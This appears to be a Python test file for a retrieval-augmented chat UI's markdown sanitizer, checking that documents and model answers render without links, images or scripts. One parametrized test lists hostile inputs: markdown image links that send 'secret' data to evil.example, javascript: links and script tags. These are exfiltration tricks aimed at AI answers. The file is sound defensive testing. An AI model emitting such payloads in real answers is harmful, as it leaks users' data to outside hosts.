"""Text of documents and models on the page: shown, never obeyed."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag.ui import markdown


def rendered(text: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


@given(st.text(alphabet="ab<>&[]()!*_`#$~|:\\-+.1 \n\"'", max_size=60))
def test_plain_text_becomes_no_markup(text: str) -> None:
    html = rendered(markdown.plain(text))
    for element in (
        "<img",
        "<a ",
        "<em",
        "<strong",
        "<code",
        "<h1",
        "<li",
        "<table",
        "<script",
        "<blockquote",
    ):
        assert element not in html


def test_the_questions_words_are_marked() -> None:
    text = "Books may be borrowed for 4 weeks; a booklet too."
    assert markdown.marked(text, "How long can I borrow books?") == (
        ":yellow-background[Books] may be :yellow-background[borrowed] for 4 weeks; a "
        ":yellow-background[booklet] too\\."
    )
    assert (
        markdown.marked("每年享有15天带薪年假。", "年假有多少天？")
        == "每年享有15天带薪:yellow-background[年假]。"
    )
    assert markdown.marked("Nothing [here](x)", "the of") == "Nothing \\[here\\]\\(x\\)"


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](http://evil.example/?q=secret)",
        "![x][1]\n\n[1]: http://evil.example/a.png",
        "[click](javascript:alert(1))",
        "<img src=http://evil.example/a.png>",
        "<script>alert(1)</script>",
        "[![x](http://evil.example/a.png)](http://evil.example)",
        "![a\nb](http://evil.example/a.png)",
        "![](<http://evil.example/a b.png>)",
        "![x] (http://evil.example/a.png)",
        "```\nx\n``` ![x](http://evil.example/a.png)",
        "http://evil.example",
        r"\[click\](http://evil.example)",
        r"!\[1\](http://evil.example)",
        "![1](http://evil.example)",
        "```a```\n![x](http://evil.example/a.png)",
        "``````a``````\n![x](http://evil.example/a.png)",
        "```\nx\n   ```\n![x](http://evil.example/a.png)",
        r"\`a `[x](http://evil.example)`",
        "| ` | `[x](http://evil.example)` |\n|---|---|\n| ` | ` [x](http://evil.example) ` |",
    ],
)
def test_a_models_answer_fetches_and_hides_nothing(hostile: str) -> None:
    html = rendered(markdown.answer(hostile, [1], "p"))
    assert "<img" not in html
    assert "<script" not in html
    assert 'href="http' not in html
    assert 'href="javascript' not in html


def test_an_answer_keeps_its_form_and_links_its_markers() -> None:
    text = markdown.answer("**Yes** [1], but not [2].\n\n- costs $5", [1], "passage-7")
    assert text == "**Yes** [\\[1\\]](#passage-7-1), but not \\[2\\].\n\n- costs \\$5"
    assert markdown.answer(":red[x]") == "\\:red\\[x\\]"
    assert markdown.answer("```\na[0] < $x\n```\n[1]") == "```\na[0] < $x\n```\n\\[1\\]"
    assert markdown.answer("as `a[0]` in [1]") == "as `a[0]` in \\[1\\]"
    assert markdown.answer("- ```\n  a[0]\n   ```\n- `b\\c[1]`") == "- ```\n  a[0]\n   ```\n- `b\\c[1]`"


@given(st.text(alphabet="ab[](!<>`~|:\\-$ \n\t1.#", max_size=80))
def test_no_answer_becomes_a_link_or_an_image(text: str) -> None:
    html = rendered(markdown.answer(text.replace("(", "(http://evil.example"), [1], "p"))
    assert "<img" not in html
    assert '<a href="http' not in html


def test_an_indented_line_is_not_code() -> None:
    text = markdown.plain("Rules\n\n    Dogs stay outside")
    assert text == "Rules  \n  \n\u00a0\u00a0\u00a0\u00a0Dogs stay outside"
    assert "<code" not in rendered(text)
    assert "<code" not in rendered(markdown.marked("Rules\n\n    Dogs stay outside", "dogs"))


def test_a_table_in_a_passage_is_a_table() -> None:
    text = "Before\n| Tea | Water |\n| --- | --- |\n| *green* | 80 |\nAfter"
    html = rendered(markdown.marked(text, "green"))
    assert "<th>Tea</th>" in html and "80</td>" in html
    assert "<em>" not in html
    assert "<table" not in rendered(markdown.marked("| not | a table |\n| at | all |", "x"))
